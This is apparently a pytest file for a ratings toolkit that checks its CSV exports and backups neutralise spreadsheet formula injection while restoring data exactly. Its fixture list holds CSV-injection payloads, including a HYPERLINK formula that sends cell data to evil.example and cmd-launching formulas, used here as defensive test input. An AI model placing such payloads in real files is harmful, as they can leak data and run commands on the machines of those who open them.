"""CSV the toolkit writes is data, not formulas: the organiser's export and the store's
CSV backup, read as a spreadsheet reads them (the csv module: every cell text), hold no
cell that begins with a formula character unless it is a plain number; numbers stay
numbers, and a restore gives back exactly what was typed."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import polars as pl
import pytest
from starlette.testclient import TestClient

from toolkit.io.csvcells import neutralise_cell
from toolkit.load.discussion import load_discussion
from toolkit.rating_server import RatingServer, create_app
from toolkit.ratings.store import EXPORT_PARTS, RatingStore
from toolkit.rubrics.discussion import DEFAULT_ENGAGEMENT_SCALE

#: What an attacker (or a careless rater) types into a note: OWASP's starting characters,
#: a classic payload of each, and data that only looks like one.
HOSTILE_NOTES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "'=already quoted by the rater",
    "-cmd",
]
#: Cells a spreadsheet reads as numbers: nothing to run, left as they are.
NUMBERS = ["-3", "+4", "-2.5e3"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$")


def _spreadsheet_cells(text: str) -> list[list[str]]:
    """The cells as a spreadsheet's CSV import splits them (RFC 4180, via the csv module)."""
    return list(csv.reader(io.StringIO(text, newline="")))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA) and not PLAIN_NUMBER.match(cell)
    ]


def test_neutralising_a_cell_follows_owasp_and_leaves_numbers_alone() -> None:
    # by hand, from the OWASP rule: a quote in front of each formula start
    assert neutralise_cell("=1+1") == "'=1+1"
    assert neutralise_cell("+1") == "+1"  # a number
    assert neutralise_cell("-cmd") == "'-cmd"
    assert neutralise_cell("-3+cmd") == "'-3+cmd"
    assert neutralise_cell("@x") == "'@x"
    assert neutralise_cell("\t=x") == "'\t=x"
    assert neutralise_cell("\r=x") == "'\r=x"
    assert neutralise_cell("'kept") == "''kept"  # so that reading back strips one
    assert neutralise_cell("fine = ok") == "fine = ok"
    assert neutralise_cell("-3") == "-3" and neutralise_cell("-2.5e3") == "-2.5e3"


@pytest.fixture
def served(tmp_path: Path, games: Path) -> tuple[TestClient, RatingServer, RatingStore]:
    discussion = load_discussion(games)
    store = RatingStore(tmp_path / "ratings.db")
    raters = ["ana", "=evil", "@ben", "-chidi"]
    session, _ = store.open_session(discussion.game_ids, raters, 4, seed=3)
    server = RatingServer.build(store, session, discussion, DEFAULT_ENGAGEMENT_SCALE)
    notes = [*HOSTILE_NOTES, *NUMBERS]
    for i, rater in enumerate(raters):
        for j, game in enumerate(discussion.game_ids):
            store.submit(rater, game, 1 + (i + j) % 5, notes=notes[(i * 3 + j) % len(notes)])
    return TestClient(create_app(server)), server, store


def test_the_organisers_csv_export_opens_as_text_in_a_spreadsheet(
    served: tuple[TestClient, RatingServer, RatingStore],
) -> None:
    client, server, store = served
    text = client.get(f"/o/{server.session.organiser_token}/ratings.csv").text
    rows = _spreadsheet_cells(text)
    header, body = rows[0], rows[1:]
    assert len(body) == store.latest().height
    assert _formula_cells(rows) == []
    notes = [row[header.index("notes")] for row in body]
    assert any(n.startswith("'=HYPERLINK(") for n in notes)
    raters = {row[header.index("rater")] for row in body}
    assert raters == {"ana", "'=evil", "'@ben", "'-chidi"}
    # numbers stay numbers: the scores and event ids are digits, a typed -3 is -3
    assert all(row[header.index("score")] in list("12345") for row in body)
    assert all(row[header.index("event_id")].isdigit() for row in body)
    assert "-3" in notes and "'-3" not in notes


def test_the_stores_csv_backup_is_neutralised_and_restores_exactly(
    served: tuple[TestClient, RatingServer, RatingStore], tmp_path: Path
) -> None:
    _client, _server, store = served
    store.save_draft("@ben", "game-pass", 2, notes="=draft formula")
    folder = tmp_path / "backup"
    store.backup(folder, fmt="csv")
    for part in EXPORT_PARTS:
        rows = _spreadsheet_cells((folder / f"{part}.csv").read_text(encoding="utf-8"))
        assert _formula_cells(rows) == [], part
    fresh = RatingStore(tmp_path / "fresh.db")
    fresh.restore(folder)
    want = store.events().select("uid", "rater", "notes", "score").sort("uid")
    got = fresh.events().select("uid", "rater", "notes", "score").sort("uid")
    assert got.equals(want)
    assert set(got["notes"]) == set(HOSTILE_NOTES) | set(NUMBERS)
    assert fresh.all_drafts().equals(store.all_drafts())
    assert (
        pl.read_csv(folder / "ratings.csv", infer_schema=False)["score"]
        .str.contains(r"^[1-5]$")
        .all()
    )
